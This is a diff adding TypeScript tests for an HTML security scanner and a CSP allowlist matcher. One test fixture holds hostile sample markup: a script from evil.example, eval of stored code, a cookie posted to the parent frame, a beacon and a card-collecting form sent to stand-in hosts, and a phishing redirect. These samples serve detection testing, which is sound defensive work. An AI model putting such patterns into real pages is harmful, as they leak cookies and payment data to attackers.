@@ -0,0 +1,56 @@
+/**
+ * Security Scan Tests
+ */
+
+import { scanHtml } from '../services/securityScan';
+import { matchesSource, DEFAULT_PREVIEW_ALLOWLIST } from '../services/previewCsp';
+
+export const runSecurityScanTests = () => {
+  console.log('Running Security Scan Tests...');
+
+  // Test 1: Allowlist matching follows CSP host-source rules
+  if (!matchesSource('https://cdn.tailwindcss.com/3.4', 'https://cdn.tailwindcss.com')) throw new Error('Exact host not matched');
+  if (!matchesSource('https://cdn.jsdelivr.net/npm/x.js', '*.jsdelivr.net')) throw new Error('Wildcard host not matched');
+  if (matchesSource('https://jsdelivr.net/x.js', '*.jsdelivr.net')) throw new Error('Wildcard matched the bare domain');
+  if (matchesSource('http://cdn.tailwindcss.com', 'https://cdn.tailwindcss.com')) throw new Error('Scheme ignored');
+  if (matchesSource('https://unpkg.com/react', 'https://unpkg.com/vue/')) throw new Error('Path prefix ignored');
+
+  // Test 2: Clean generated output has no findings
+  const clean = `<!DOCTYPE html>
+<html><head><script src="https://cdn.tailwindcss.com"></script>
+<style>body { background: url(data:image/png;base64,AAAA); top: 0; }</style></head>
+<body><img src="data:image/svg+xml;base64,AAAA" alt=""><!-- <script src="https://evil.example/x.js"></script> -->
+<script>const el = document.body; el.style.top = '0'; setTimeout(() => render(), 10);</script>
+</body></html>`;
+  const cleanFindings = scanHtml(clean, DEFAULT_PREVIEW_ALLOWLIST);
+  if (cleanFindings.length !== 0) throw new Error(`False positives: ${cleanFindings.map(f => f.rule).join(', ')}`);
+
+  // Test 3: Each rule is detected with its severity and line
+  const risky = `<html><head>
+<script src="https://evil.example/track.js"></script>
+<script>
+  eval(localStorage.code);
+  window.parent.postMessage(document.cookie, '*');
+  navigator.sendBeacon('https://t.example/c', data);
+</script></head>
+<body onload="top.location = 'https://phish.example'">
+<form action="https://collect.example/submit" method="post"><input name="card"></form>
+<img src="https://t.example/p.gif" width="1" height="1">
+<img src="https://images.example/hero.jpg">
+</body></html>`;
+  const findings = scanHtml(risky, DEFAULT_PREVIEW_ALLOWLIST);
+  const lineOf = (rule: string) => findings.find(f => f.rule === rule)?.line;
+  if (lineOf('external-script') !== 2) throw new Error('External script not flagged on its line');
+  if (lineOf('eval') !== 4) throw new Error('eval not flagged on its line');
+  if (findings.filter(f => f.rule === 'parent-access').length !== 2) throw new Error('parent/top access not flagged');
+  if (lineOf('remote-form') !== 9) throw new Error('Remote form not flagged');
+  if (findings.filter(f => f.rule === 'tracking-pixel').length !== 2) throw new Error('Pixel and beacon not flagged');
+  if (lineOf('external-image') !== 11) throw new Error('External image not flagged');
+  if (findings[0].severity !== 'high' || findings[findings.length - 1].severity !== 'low') throw new Error('Findings not sorted by severity');
+
+  // Test 4: Allowlisted scripts and non-JS script blocks are not flagged
+  const allowed = scanHtml('<script src="https://cdn.jsdelivr.net/npm/chart.js"></script><script type="application/json">{"eval(": 1}</script>', ['*.jsdelivr.net']);
+  if (allowed.length !== 0) throw new Error('Allowlisted script or JSON block flagged');
+
+  console.log('✅ Security Scan Tests Passed');
+};